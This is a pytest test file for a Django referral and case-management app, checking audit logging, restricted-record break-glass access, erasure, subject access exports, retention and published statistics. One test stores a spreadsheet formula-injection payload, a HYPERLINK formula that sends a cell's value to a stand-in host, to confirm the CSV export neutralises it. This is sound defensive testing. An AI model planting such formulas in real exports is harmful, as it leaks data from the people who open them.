"""Rescue and Response: the findings of the first review (docs/web-referrals.md, "Review"), each with a
test that failed before its fix. Fixtures and helpers come from test_referrals.py (the same synthetic
world)."""

from __future__ import annotations

import pytest
import test_referrals as base
from django.urls import reverse
from django.utils import timezone
from test_referrals import BRENT, client, make_case

from vru.web.accounts.models import AuditLog
from vru.web.referrals.models import Contact, MissingEpisode, Need, NeedOutcome, Rescue, RiskNote

pytestmark = pytest.mark.django_db
w = base.w  # the fixture


# ----------------------------------------------------------------- 1: every case page read, one audit row
def _case_urls(w) -> list[tuple[str, object, str, dict]]:
    """(name, user, url, a POST with a mistake or None) for every page that shows a case."""
    r = make_case(w, provider=w.pa)
    need = Need.objects.create(referral=r, category="exit", desired_outcome="Leaves the line")
    note = RiskNote.objects.create(
        referral=r, level="high", text="Debt to a dealer", review_on=timezone.localdate(), created_by=w.cw_a
    )
    contact = Contact.objects.create(
        referral=r, when=timezone.now(), kind="session", attendance="attended", recorded_by=w.cw_a
    )
    rescue = Rescue.objects.create(
        referral=r, county="Norfolk", police_force="Norfolk", rescued_on=timezone.localdate()
    )
    episode = MissingEpisode.objects.create(referral=r, started_on=timezone.localdate())
    closed = make_case(w, provider=w.pa)
    closed_need = Need.objects.create(referral=closed, category="exit", desired_outcome="Leaves the line")
    NeedOutcome.objects.create(
        closure=base.close_case(w, closed, timezone.localdate()), need=closed_need, achievement="achieved"
    )
    waiting = make_case(w, status="submitted")
    unallocated = make_case(w, status="accepted")

    def url(name, *args):
        return reverse(f"referrals:{name}", args=args)

    return [
        ("case", w.cw_a, url("case", r.pk), None),
        ("decide", w.mgr_a, url("decide", waiting.pk), {"decision": "bogus"}),
        ("allocate", w.mgr_a, url("allocate", unallocated.pk), {"provider": "abc"}),
        ("reassign", w.mgr_a, url("allocate", r.pk), {"provider": str(w.pb.pk)}),  # no reason
        ("contact", w.cw_a, url("contact", r.pk), {"when": "abc", "attendance": "attended"}),
        ("need", w.cw_a, url("need", r.pk), {"category": "bogus"}),
        ("risk", w.cw_a, url("risk", r.pk), {"level": "high", "text": "", "review_on": "abc"}),
        ("review_risk", w.cw_a, url("review_risk", r.pk, note.pk), {"outcome": "x"}),
        ("rescue", w.cw_a, url("rescue", r.pk), {"county": "", "police_force": "bogus"}),
        ("change_contact", w.cw_a, url("change_contact", r.pk, contact.pk), {"attendance": "late"}),
        ("change_rescue", w.cw_a, url("change_rescue", r.pk, rescue.pk), {"county": ""}),
        ("change_missing", w.cw_a, url("change_missing", r.pk, episode.pk), {"started_on": "abc"}),
        ("change_need", w.cw_a, url("change_need", r.pk, need.pk), {"category": "bogus"}),
        ("change_risk", w.cw_a, url("change_risk", r.pk, note.pk), {"level": "high", "review_on": "abc"}),
        ("change_closure", w.cw_a, url("change_closure", closed.pk), {"closed_on": "abc"}),
        ("missing", w.cw_a, url("missing", r.pk), {"started_on": "abc"}),
        ("close", w.cw_a, url("close", r.pk), {"closed_on": "abc"}),
        ("update", w.cw_a, url("update", r.pk), {"borough": BRENT}),  # no reason
        ("restrict", w.mgr_a, url("restrict", r.pk), {"restricted": "on", "allowed_staff": ["abc"]}),
    ]


def test_every_case_page_get_or_sent_back_with_a_mistake_writes_exactly_one_audit_row(w):
    for name, u, url, mistake in _case_urls(w):
        c = client(u)
        for method, data in (("get", None), ("post", mistake)):
            if data is None and method == "post":
                continue
            n = AuditLog.objects.count()
            resp = c.get(url) if method == "get" else c.post(url, data)
            assert resp.status_code == (200 if method == "get" else 400), (name, method, resp.status_code)
            rows = list(AuditLog.objects.order_by("-pk")[: AuditLog.objects.count() - n])
            assert len(rows) == 1, (name, method, [(a.action, a.purpose) for a in rows])
            assert rows[0].action == "view case" and rows[0].user == u, (name, method)


def test_a_restricted_case_is_neither_decided_nor_reassigned_without_break_glass(w):
    r = base.restricted_case(w)
    m = client(w.mgr_a)
    page = m.get(reverse("referrals:allocate", args=[r.pk]))
    assert "restricted record" in page.content.decode() and not AuditLog.objects.filter(action="view case")
    resp = m.post(reverse("referrals:allocate", args=[r.pk]), {"provider": w.pb.pk, "reason": "moving it"})
    r.refresh_from_db()
    assert resp.status_code == 403 and r.current_provider == w.pa and r.allocations.count() == 1
    # after break-glass, it may
    bg = m.post(reverse("referrals:break_glass", args=[r.pk]), {"reason": "Safeguarding call"})
    assert bg.status_code == 302
    resp = m.post(reverse("referrals:allocate", args=[r.pk]), {"provider": w.pb.pk, "reason": "moving it"})
    r.refresh_from_db()
    assert resp.status_code == 302 and r.current_provider == w.pb


# --------------------------------------------------------- 2, 14: no free text in the audit log; erasure
def _everything_stored() -> str:
    """Every text value of every table of the app, of the audit log and of every session, as one string."""
    import json

    from django.apps import apps
    from django.contrib.sessions.models import Session

    parts = []
    for model in [*apps.get_app_config("referrals").get_models(), AuditLog]:
        text = [
            f.attname
            for f in model._meta.concrete_fields
            if f.get_internal_type() in ("CharField", "TextField")
        ]
        if text:  # (values_list() of no field would give every field)
            parts += [json.dumps(row) for row in model._base_manager.values_list(*text)]
    parts += [json.dumps(s.get_decoded(), default=str) for s in Session.objects.all()]
    return "\n".join(parts)


def test_erasure_leaves_no_name_or_free_text_in_the_audit_log_the_casework_or_the_session(w):
    from datetime import timedelta

    from vru.web.referrals import conf, services

    r = base.restricted_case(w, days_ago=3000, name="Quilliam Erasable")
    c = client(w.cw_a)
    secrets = ["Quilliam", "Mother of Quilliam phoned", "moved to his aunt", "3 Mill Lane", "07700 900123"]
    assert c.post(reverse("referrals:break_glass", args=[r.pk]), {"reason": secrets[1]}).status_code == 302
    assert c.get(reverse("referrals:case", args=[r.pk])).status_code == 200
    update = {"borough": BRENT, "gender": "male", "missing_episodes": "0", "contact": "12 Acacia Road"}
    resp = c.post(reverse("referrals:update", args=[r.pk]), {**update, "reason": f"Quilliam {secrets[2]}"})
    assert resp.status_code == 302
    rescue = {"county": f"Found at {secrets[3]}, Norwich", "police_force": "Norfolk"}
    resp = c.post(
        reverse("referrals:rescue", args=[r.pk]), {**rescue, "rescued_on": r.referral_date.isoformat()}
    )
    assert resp.status_code == 302, resp.content.decode()[-2000:]
    # the audit log never held them (findings 2, 14): its purposes name the case by reference
    rows = AuditLog.objects.filter(object_id=str(r.pk))
    assert rows.count() >= 4 and all(a.purpose.startswith(f"{r.reference}: ") for a in rows)
    audit_text = "\n".join(rows.values_list("purpose", flat=True))
    assert not [s for s in [*secrets, "Acacia"] if s in audit_text]
    assert "Quilliam" in _everything_stored()  # the casework holds them until erasure
    Need.objects.create(referral=r, category="exit", desired_outcome="x")
    base.close_case(w, r, timezone.localdate() - timedelta(days=conf.retention_days() + 1))
    services.anonymise(r)
    stored = _everything_stored()
    assert not [s for s in [*secrets, "Acacia", "Norwich"] if s in stored]
    assert Rescue.objects.get(referral=r).police_force == ""  # a force names the county: blanked too


# ------------------------------------------------------------------------- 4, 5, 9: subject access
def test_the_export_leaves_out_a_restricted_referral_not_opened_and_audits_each_one_exported(w):
    import json

    a = make_case(w, provider=w.pa)
    b = make_case(w, provider=w.pa)
    RiskNote.objects.create(
        referral=b, level="high", text="SECRET-RISK", review_on=timezone.localdate(), created_by=w.cw_a
    )
    b.restricted = True
    b.save()
    b.allowed_staff.add(w.cw_a2)
    m = client(w.mgr_a)
    data = m.get(reverse("referrals:export", args=[a.pk, "json"])).json()
    assert [i["referral"][0]["reference"] for i in data["referrals"]] == [a.reference]
    assert "SECRET-RISK" not in json.dumps(data) and data["left_out"].startswith("1 restricted")
    assert not AuditLog.objects.filter(object_id=str(b.pk)).exists()
    assert AuditLog.objects.filter(object_id=str(a.pk), action="subject access export").count() == 1
    # once opened by break-glass, it is exported too, with its own audit row
    assert (
        m.post(
            reverse("referrals:break_glass", args=[b.pk]), {"reason": "Subject access request"}
        ).status_code
        == 302
    )
    data = m.get(reverse("referrals:export", args=[a.pk, "json"])).json()
    assert len(data["referrals"]) == 2 and not data["left_out"]
    for r in (a, b):
        assert AuditLog.objects.filter(object_id=str(r.pk), action="subject access export").count() == (
            2 if r is a else 1
        )


def test_the_csv_export_neutralises_formulas(w):
    r = make_case(w, provider=w.pa)
    r.concerns = '=HYPERLINK("http://x.invalid/?"&B2,"click")'
    r.save()
    body = client(w.mgr_a).get(reverse("referrals:export", args=[r.pk, "csv"])).content.decode()
    assert "\"'=HYPERLINK" in body and '"=HYPERLINK' not in body


def test_the_data_protection_officers_search_finds_every_referral_in_any_state_and_audits_each(w, tmp_path):
    import json
    import os
    from io import StringIO

    from django.core.management import CommandError, call_command

    from vru.web.referrals import services
    from vru.web.referrals.models import SubjectAccessRequest, YoungPerson

    name = "Ottoline Searchable"
    made = [
        make_case(w, provider=w.pa, name=name),
        make_case(w, status="declined", name=name),
        make_case(w, status="submitted", name=name),
        make_case(w, status="submitted", kind="intelligence", name=name),
        make_case(w, status="draft", name=name),
    ]
    other = make_case(w, name="Someone Else")
    dob = YoungPerson.objects.get(referral=made[0]).date_of_birth.isoformat()
    dpo = base.user("dpo@example.org", "provider manager")  # subject access's permission
    nobody = base.user("nobody.special@example.org", "caseworker")  # an active account without it
    out = tmp_path / "sar.json"
    # the name and date of birth come on standard input, one a line, never on the command line (review 4, 9)
    person = f"  ottoline   SEARCHABLE \n{dob}\n"
    args = ["--user", dpo.email]
    call_command(
        "referrals_subject_access",
        *args,
        "--reason",
        "Letter of 3 May, ref DP-7",
        "--out",
        str(out),
        stdin=StringIO(person),
        stderr=StringIO(),
    )
    assert oct(os.stat(out).st_mode & 0o777) == "0o600"
    data = json.loads(out.read_text())
    assert sorted(i["referral"][0]["reference"] for i in data["referrals"]) == sorted(
        r.reference for r in made
    )
    sar = SubjectAccessRequest.objects.get()
    assert sar.user == dpo and sar.referrals.count() == 5
    rows = AuditLog.objects.filter(action="subject access export (DPO)")
    assert sorted(rows.values_list("object_id", flat=True)) == sorted(str(r.pk) for r in made)
    assert all(f"request {sar.pk}" in a.purpose and "DP-7" not in a.purpose for a in rows)
    assert not AuditLog.objects.filter(object_id=str(other.pk)).exists()
    for bad, says, given_person in (
        (["--reason", "short"], "--reason", person),
        (["--reason", "..............."], "in words", person),
        (["--reason", "A proper reason"], "date of birth", "Ottoline Searchable\n3 May\n"),
        (["--reason", "A proper reason"], "name", f"   \n{dob}\n"),
        (["--reason", "A proper reason", "--user", "nobody@example.org"], "--user", person),
        (["--reason", "A proper reason", "--user", nobody.email], "may not answer", person),
        (["--reason", "A proper reason", "--name", "Ottoline Searchable"], "command line", person),
        (["--reason", "A proper reason", "--dob", dob], "command line", person),
    ):
        given = dict(zip(args[::2], args[1::2], strict=True))
        given.update(dict(zip(bad[::2], bad[1::2], strict=True)))
        with pytest.raises(CommandError, match=says) as err:
            call_command(
                "referrals_subject_access",
                *[x for kv in given.items() for x in kv],
                stdin=StringIO(given_person),
                stdout=StringIO(),
            )
        assert "Ottoline" not in str(err.value) and dob not in str(err.value)  # never echoed back
    assert SubjectAccessRequest.objects.count() == 1  # nothing of the refused ones written
    # erasure blanks the request's reason
    services.anonymise(made[1])
    sar.refresh_from_db()
    assert sar.reason == "[erased]"


# ----------------------------------------------------------------------------- 6, 13: retention, admin
def test_intelligence_never_triaged_and_draft_referrals_come_due_from_their_last_step(w, settings):
    from datetime import timedelta

    from vru.web.referrals import services
    from vru.web.referrals.models import Referral

    settings.VRU_REFERRALS_RETENTION_DAYS = 100
    old = timezone.now() - timedelta(days=101)
    intel = make_case(w, status="submitted", kind="intelligence")
    waiting = make_case(w, status="submitted")
    draft = make_case(w, status="draft")
    recent = make_case(w, status="submitted", kind="intelligence")
    open_case = make_case(w, provider=w.pa)
    Referral.objects.filter(pk__in=[intel.pk, waiting.pk, open_case.pk]).update(submitted_at=old)
    Referral.objects.filter(pk__in=[draft.pk, open_case.pk]).update(created=old)
    assert set(services.retention_due()) == {intel, waiting}
    # a draft has its own, short period (review 4, 4): test_referrals_review4.py
    assert set(services.drafts_due()) == {draft}
    assert recent not in services.retention_due() and open_case not in services.retention_due()


def test_the_configuration_admin_is_audited_and_an_organisation_is_fixed_once_made(w):
    from vru.web.accounts.models import Organisation

    admin_user = base.user("admin@example.org", "administrator")
    admin_user.is_staff = True
    admin_user.save()
    c = client(admin_user)
    for url in (
        "/admin/referrals/provider/",
        "/admin/referrals/council/",
        "/admin/referrals/allocationrule/",
    ):
        n = AuditLog.objects.count()
        assert c.get(url).status_code == 200
        assert AuditLog.objects.count() == n + 1 and AuditLog.objects.first().action == "list"
    other = Organisation.objects.create(name="Elsewhere (test)", kind="provider")
    page = c.get(f"/admin/referrals/provider/{w.pa.pk}/change/")
    assert page.status_code == 200 and 'name="organisation"' not in page.content.decode()
    resp = c.post(
        f"/admin/referrals/provider/{w.pa.pk}/change/",
        {"organisation": other.pk, "capacity": "7", "active": "on"},
    )
    assert resp.status_code == 302
    w.pa.refresh_from_db()
    assert (w.pa.organisation.name, w.pa.capacity) == (
        "St Giles (test)",
        7,
    )  # capacity changed, not the owner
    change = AuditLog.objects.filter(action="change", object_id=str(w.pa.pk)).get()
    assert change.user == admin_user and "Capacity" in change.purpose
    council = w.council_brent.organisation.rr_council
    page = c.get(f"/admin/referrals/council/{council.pk}/change/").content.decode()
    assert 'name="organisation"' not in page and 'name="borough"' in page


# --------------------------------------------------------------- 7, 15: figures that cannot be differenced
def test_published_figures_are_completed_years_frozen_so_one_new_case_cannot_be_found(w):
    from datetime import timedelta

    from vru.web.referrals import demo, reports
    from vru.web.referrals.models import AppendOnlyImmutable, PublishedFigures, Referral

    demo.generate(seed=7)  # 2020-21
    a = client(w.analyst)
    page = a.get(reverse("referrals:reports"))
    first = a.get("/api/v1/referrals/reports/").json()
    assert first["report"]["period"] == "2020-21" and first["report"]["total"] == 593
    assert "2020-21" in first["years"] and "Submitted referrals: 593" in page.content.decode()
    # a new referral today, and an outcome recorded now for a 2020-21 case (back-dated into the year)
    make_case(w, provider=w.pa, days_ago=0)
    old = make_case(w, provider=w.pa)  # entered now, back-dated into 2020-21 with its outcome
    Referral.objects.filter(pk=old.pk).update(referral_date="2020-06-01")
    old.refresh_from_db()
    Need.objects.create(referral=old, category="exit", desired_outcome="x")
    base.close_case(w, old, old.referral_date + timedelta(days=30), involvement="no_change", in_eet="no")
    assert reports.service_report()["total"] == 595  # the computation sees them ...
    assert a.get("/api/v1/referrals/reports/").json() == first  # ... the published figures never do
    figures = a.get(reverse("referrals:reports")).content.decode().split("<h1")[1].split("</main>")[0]
    assert figures == page.content.decode().split("<h1")[1].split("</main>")[0]
    # the current year is not published, a made-up year is 404, the stored release cannot be edited
    assert a.get("/api/v1/referrals/reports/?year=2026").status_code == 404
    assert a.get(reverse("referrals:reports") + "?year=abc").status_code == 404
    with pytest.raises(ValueError, match="has not ended"):
        reports.release(reports.financial_year(timezone.localdate()))
    row = PublishedFigures.objects.get()
    with pytest.raises(AppendOnlyImmutable):
        PublishedFigures.objects.filter(pk=row.pk).update(figures={})


def test_the_first_contact_count_is_published_as_a_pair(w, settings):
    from vru.web.referrals import reports
    from vru.web.referrals.models import Contact, Referral

    settings.VRU_REFERRALS_MIN_N = 3
    for _ in range(5):
        r = make_case(w)
        Contact.objects.create(referral=r, when=timezone.now(), attendance="attended", recorded_by=w.cw_b)
    r = make_case(w)  # one accepted case without a first contact: 5 and 1
    fc = reports.first_contact_days(Referral.objects.filter(status="accepted"))
    assert fc == {"n": None, "median": None}  # 1 below 3: "accepted minus n" would give it away
    for _ in range(3):
        make_case(w)
    assert reports.first_contact_days(Referral.objects.filter(status="accepted"))["n"] == 5


# ------------------------------------------------------------------------- 8, 12: triage hub, openings
def test_only_the_triage_hubs_managers_see_new_referrals_others_only_their_allocated_cases(w):
    waiting = make_case(w, status="submitted")
    mine_b = make_case(w, provider=w.pb)
    mb = client(w.mgr_b)
    assert w.pa.triage_hub  # provider A is the hub (the fixture)
    assert waiting.reference not in mb.get(reverse("referrals:triage")).content.decode()
    n = AuditLog.objects.count()
    for name in ("decide", "allocate", "case"):
        assert mb.get(reverse(f"referrals:{name}", args=[waiting.pk])).status_code == 404, name
    assert mb.post(reverse("referrals:decide", args=[waiting.pk]), {"decision": "accept"}).status_code == 404
    assert AuditLog.objects.count() == n  # nothing seen, nothing logged
    assert mb.get(reverse("referrals:case", args=[mine_b.pk])).status_code == 200  # their own allocated case
    ma = client(w.mgr_a)
    assert waiting.reference in ma.get(reverse("referrals:triage")).content.decode()
    assert ma.get(reverse("referrals:decide", args=[waiting.pk])).status_code == 200
    # one hub at most
    from django.db import IntegrityError, transaction

    w.pb.triage_hub = True
    with pytest.raises(IntegrityError), transaction.atomic():
        w.pb.save()


def test_the_break_glass_report_follows_the_openers_organisation_not_the_cases_provider(w):
    from vru.web.referrals import services

    r = base.restricted_case(w)
    assert client(w.cw_a).post(reverse("referrals:break_glass", args=[r.pk]), {"reason": "Out of hours call"})
    services.allocate(r, w.pb, w.mgr_a, reason="Moved to B")
    assert r.reference in client(w.mgr_a).get(reverse("referrals:break_glass_report")).content.decode()
    assert r.reference not in client(w.mgr_b).get(reverse("referrals:break_glass_report")).content.decode()


# ----------------------------------------------------------------- 10, 16, 17: the referral form
def _error_next_to(html: str, field: str) -> str:
    marker = f'id="id_{field}-error"'
    assert marker in html, f"no message next to {field}"
    return html.split(marker)[1].split("</p>")[0]


def test_intelligence_for_a_borough_without_a_council_is_refused_next_to_the_borough(w):
    from test_referrals import referral_post

    from vru.web.referrals.models import Referral

    c = client(w.referrer)
    resp = c.post(reverse("referrals:new"), referral_post(kind="intelligence", borough="E09000002"))
    assert resp.status_code == 400 and not Referral.objects.exists()
    assert "does not receive intelligence" in _error_next_to(resp.content.decode(), "borough")
    resp = c.post(reverse("referrals:new"), referral_post(kind="intelligence", borough=BRENT))
    assert resp.status_code == 302 and Referral.objects.get().shared_with.borough == BRENT
    # a draft may still name it (the referrer may yet change the type)
    draft = referral_post(kind="intelligence", borough="E09000002", submit=None, draft="1")
    assert c.post(reverse("referrals:new"), draft).status_code == 302


def test_a_form_sent_twice_makes_one_referral(w):
    from test_referrals import referral_post

    from vru.web.referrals.models import Referral

    c = client(w.referrer)
    page = c.get(reverse("referrals:new")).content.decode()
    once = page.split('name="once" value="')[1].split('"')[0]
    first = c.post(reverse("referrals:new"), {**referral_post(), "once": once})
    second = c.post(reverse("referrals:new"), {**referral_post(), "once": once})
    assert Referral.objects.count() == 1 and first["Location"] == second["Location"]
    other = c.get(reverse("referrals:new")).content.decode().split('name="once" value="')[1].split('"')[0]
    assert other != once


def test_nrm_dates_have_a_lower_bound_and_consent_matches_the_basis_and_the_date_is_the_submission(w):
    from datetime import timedelta

    from test_referrals import referral_post

    from vru.web.referrals.models import Referral

    c = client(w.referrer)
    nrm = {"nrm_referred": "on", "nrm_referred_on": "1900-01-01"}
    resp = c.post(reverse("referrals:new"), referral_post(**nrm))
    assert resp.status_code == 400 and "2009" in _error_next_to(resp.content.decode(), "nrm_referred_on")
    dob = timezone.localdate() - timedelta(days=16 * 366)
    before_birth = (dob - timedelta(days=10)).isoformat()
    resp = c.post(reverse("referrals:new"), referral_post(nrm_referred="on", nrm_referred_on=before_birth))
    assert resp.status_code == 400 and "birth" in _error_next_to(resp.content.decode(), "nrm_referred_on")
    resp = c.post(reverse("referrals:new"), referral_post(consent="refused", lawful_basis="consent"))
    assert resp.status_code == 400 and "Consent" in _error_next_to(resp.content.decode(), "lawful_basis")
    assert not Referral.objects.exists()
    # a draft begun long ago takes the day of its submission
    assert c.post(reverse("referrals:new"), referral_post(submit=None, draft="1")).status_code == 302
    r = Referral.objects.get()
    Referral.objects.filter(pk=r.pk).update(referral_date=timezone.localdate() - timedelta(days=40))
    assert c.post(reverse("referrals:draft", args=[r.pk]), referral_post()).status_code == 302
    r.refresh_from_db()
    assert r.status == "submitted" and r.referral_date == timezone.localdate()


def test_name_and_date_of_birth_are_corrected_with_their_change_records(w):
    from datetime import timedelta

    from vru.web.referrals.models import ChangeRecord, YoungPerson

    r = make_case(w, provider=w.pa)
    c = client(w.cw_a)
    url = reverse("referrals:update", args=[r.pk])
    page = c.get(url).content.decode()
    assert base.NAME in page  # shown to be corrected (an audited read)
    keep = {"borough": BRENT, "gender": "male", "missing_episodes": "0", "contact": "07700 900123"}
    too_old = (r.referral_date - timedelta(days=27 * 366)).isoformat()
    resp = c.post(url, {**keep, "date_of_birth": too_old, "reason": "Typo in the year"})
    assert resp.status_code == 400 and "makes them 2" in _error_next_to(
        resp.content.decode(), "date_of_birth"
    )
    resp = c.post(url, {**keep, "name": "", "reason": "Typo in the name"})
    assert resp.status_code == 400 and "full name" in _error_next_to(resp.content.decode(), "name")
    dob = r.referral_date - timedelta(days=18 * 366)
    resp = c.post(
        url,
        {**keep, "name": "Zebedee Testperson-Smith", "date_of_birth": dob.isoformat(), "reason": "ID seen"},
    )
    assert resp.status_code == 302
    person = YoungPerson.objects.get(referral=r)
    r.refresh_from_db()
    assert (person.name, person.date_of_birth, r.age_at_referral) == ("Zebedee Testperson-Smith", dob, 18)
    changes = {
        c.field: (c.old_value, c.new_value) for c in ChangeRecord.objects.filter(referral=r, record="person")
    }
    assert (
        changes["name"] == (base.NAME, "Zebedee Testperson-Smith")
        and changes["date_of_birth"][1] == dob.isoformat()
    )
    # a form without them (the existing clients) keeps them
    assert c.post(url, {**keep, "missing_episodes": "1", "reason": "One more"}).status_code == 302
    assert YoungPerson.objects.get(referral=r).name == "Zebedee Testperson-Smith"
